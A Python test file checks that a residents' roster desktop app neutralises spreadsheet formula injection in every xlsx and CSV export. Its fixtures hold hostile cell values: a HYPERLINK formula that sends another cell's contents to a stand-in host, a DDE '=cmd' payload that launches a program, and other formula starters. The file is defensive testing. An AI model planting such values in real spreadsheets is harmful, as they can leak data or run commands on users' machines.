"""Issue 17 item 1: no .xlsx or .csv the program writes holds a formula, whatever was typed or
imported. One roster with =HYPERLINK names goes in through the CLI; every export path comes out."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from selfgov_desktop import cli
from selfgov_desktop.documents import cells
from selfgov_desktop.services.base import Context

from conftest import open_sealed
from roster_files import HEADERS, people, row_of

EVIL = ['=HYPERLINK("http://x.example/?"&E2,"点击")', "+1+2", "-3+4", "@SUM(1)", "\t=1", "\r=2"]


def _roster_csv(path: Path) -> None:
    rows = []
    for k, p in enumerate(people(8, seed=17), start=1):
        row = row_of(k, p)
        if k <= len(EVIL):
            row[1] = EVIL[k - 1] if k == 1 else p["name"]  # the name column: the worst one
            row[8] = EVIL[k - 1]  # 所属楼组
            row[11] = EVIL[k - 1]  # 备注
        rows.append(row)
    rows.append([99, "=cmd|' /C calc'!A0", "男", "1960-01-01", "bad-id", "", "1号", "101",
                 "=第一楼组", "户主", "群众", "@note"])  # rejected: goes to the rejects file
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(HEADERS)
        w.writerows(rows)


def _formula_cells(path: Path) -> list[str]:
    """Every formula in a workbook: openpyxl's view and the raw XML (<f> elements)."""
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    found.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(name)):
                found.append(f"{name}: <f>")
    return found


def _texts(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)]


def test_every_export_path_writes_no_formula(tmp_path: Path) -> None:
    data = tmp_path / "data"
    out = tmp_path / "out"
    out.mkdir()
    src = tmp_path / "花名册.csv"
    _roster_csv(src)
    d = ["--data-dir", str(data)]
    assert cli.main([*d, "import-roster", str(src), "--rejects", str(out / "rejects.xlsx")]) == 0
    # a topic title typed by a 委员
    store = open_sealed(data)  # the store the CLI created, sealed
    try:
        from selfgov_desktop.services import topics

        topics.collect(Context(store, "委员甲"), '=HYPERLINK("http://x","议题")', channel="来访",
                       raisers=[topics.Raiser(name="@王某")])
        imported = store.conn.execute("SELECT count(*) FROM residents WHERE name LIKE '=%'"
                                      " OR note LIKE '=%' OR note LIKE '+%'").fetchone()[0]
    finally:
        store.close()
    assert imported >= 1, "the hostile values must really be in the store for this test to mean anything"

    assert cli.main([*d, "export-ledger", str(out / "ledger.xlsx")]) == 0
    assert cli.main([*d, "export-roster", str(out / "roster.xlsx")]) == 0
    assert cli.main([*d, "export-roster", str(out / "roster.csv")]) == 0

    # the audit export (the window's 导出 on 审计日志): the service rows through the writer
    store = open_sealed(data)  # the store the CLI created, sealed
    try:
        from selfgov_desktop.documents.audit_export import write_audit_xlsx
        from selfgov_desktop.services import audit

        ctx = Context(store, "主任甲")
        with ctx.tx() as tx:
            tx.audit("resident.update", "residents", 1, summary=EVIL[0], after={"name": EVIL[1]})
        exp = audit.export_data(ctx)
        write_audit_xlsx(out / "audit.xlsx", exp.title, exp.rows, exp.filter_text)
    finally:
        store.close()

    workbooks = sorted(out.glob("*.xlsx"))
    assert {p.name for p in workbooks} == {"ledger.xlsx", "roster.xlsx", "rejects.xlsx", "audit.xlsx"}
    for wb in workbooks:
        assert _formula_cells(wb) == [], wb.name
        # the hostile text is there, as text
        assert any(t.startswith(("=", "+", "-", "@")) for t in _texts(wb)), wb.name

    with open(out / "roster.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    flat = [c for r in rows[1:] for c in r]
    assert not [c for c in flat if c.startswith(cells.FORMULA_START)]
    assert "'" + EVIL[0] in flat  # neutralised, not dropped


def test_csv_value_neutralises_every_formula_start() -> None:
    for bad in EVIL + ["=1", "+", "-", "@", "\t", "\r"]:
        assert cells.csv_value(bad) == "'" + bad
    for ok in ("张三", "1号", "", "'已有引号", 12, None):
        assert cells.csv_value(ok) == ok
